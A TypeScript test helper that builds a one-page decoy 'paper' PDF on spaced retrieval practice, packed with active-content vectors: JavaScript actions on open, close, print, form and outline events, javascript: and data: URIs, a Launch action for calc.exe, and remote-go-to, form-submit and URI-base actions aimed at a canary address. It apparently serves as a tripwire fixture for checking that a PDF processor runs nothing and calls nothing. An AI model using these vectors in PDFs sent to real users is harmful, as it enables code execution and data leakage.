/** A PDF that tries, in every place a PDF has for it, to run something or to reach out. */
import { assemble, PAGE_HEIGHT, PAGE_WIDTH } from './pdf-writer.ts';

export interface HostileMarks {
  /** Run where a script runs: sets the tripwire. */
  readonly script: string;
  /** An address that must never be asked. */
  readonly canary: string;
}

const literal = (text: string): string => `(${text.replace(/[\\()]/g, String.raw`\$&`)})`;

/** One page of words about spacing, so that it is taken for a paper. `markup`: in its title, authors and text. */
export function hostilePdf(marks: HostileMarks, markup: string): Uint8Array {
  const { script, canary } = marks;
  const run = `<< /Type /Action /S /JavaScript /JS ${literal(`${script}; app.alert('x'); app.launchURL('${canary}/launch');`)} >>`;
  const box = (row: number): string => `/Rect [72 ${400 - row * 30} 300 ${420 - row * 30}]`;
  const link = (row: number, action: string): string =>
    `<< /Type /Annot /Subtype /Link ${box(row)} /Border [0 0 1] /A ${action} >>`;
  const annotations = [
    link(0, `<< /S /URI /URI ${literal(`javascript:${script}`)} >>`),
    link(1, `<< /S /URI /URI ${literal(`${canary}/uri`)} >>`),
    link(2, '<< /S /Launch /F (calc.exe) >>'),
    link(3, `<< /S /GoToR /F ${literal(`${canary}/other.pdf`)} /D [0 /Fit] >>`),
    link(4, `<< /S /SubmitForm /F ${literal(`${canary}/submit`)} /Flags 4 >>`),
    link(5, `<< /S /URI /URI ${literal(`data:text/html,<script>${script}</script>`)} >>`),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T ${literal(markup)} /V ${literal(markup)} ${box(6)} /AA << /K ${run} /F ${run} /Fo ${run} >> >>`,
    `<< /Type /Annot /Subtype /Text ${box(7)} /Contents ${literal(markup)} /T ${literal(markup)} /RC ${literal(`<body><p>${markup}</p></body>`)} >>`,
    `<< /Type /Annot /Subtype /FreeText ${box(8)} /Contents ${literal(markup)} /DA (/F1 10 Tf) >>`,
  ];
  const sentences = [
    'Spaced retrieval practice improves long-term retention of what was learned.',
    'Learners who spaced their practice remembered more of the words after one week.',
    'The gap between two sessions should grow with the time until the test is taken.',
    'Restudying the same text was less effective than trying to recall it from memory.',
  ];
  const text = [markup, ...sentences.flatMap((sentence) => [sentence, markup]), ...sentences]
    .map(
      (line, row) =>
        `BT /F1 ${row === 0 ? 20 : 10} Tf 40 ${750 - row * 20} Td ${literal(line)} Tj ET`,
    )
    .join('\n');
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  return assemble([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${run} /AA << /WC ${run} /DP ${run} >> ` +
      `/Names << /JavaScript << /Names [(a) ${run}] >> /EmbeddedFiles << /Names [${literal(markup)} << /Type /Filespec /F ${literal(markup)} /UF ${literal(markup)} >>] >> >> ` +
      `/Outlines 8 0 R /AcroForm << /Fields [] /NeedAppearances true /CO [] >> /URI << /Base ${literal(`${canary}/base/`)} >> >>`,
    '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
    font,
    font,
    `<< /Title ${literal(markup)} /Author ${literal(markup)} /Subject ${literal(markup)} /Keywords ${literal(markup)} /Producer ${literal(markup)} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${PAGE_WIDTH} ${PAGE_HEIGHT}] /Resources << /Font << /F1 3 0 R >> >> ` +
      `/Contents 7 0 R /AA << /O ${run} /C ${run} >> /Annots [${annotations.join(' ')}] >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>',
    `<< /Title ${literal(markup)} /Parent 8 0 R /A ${run} >>`,
  ]);
}
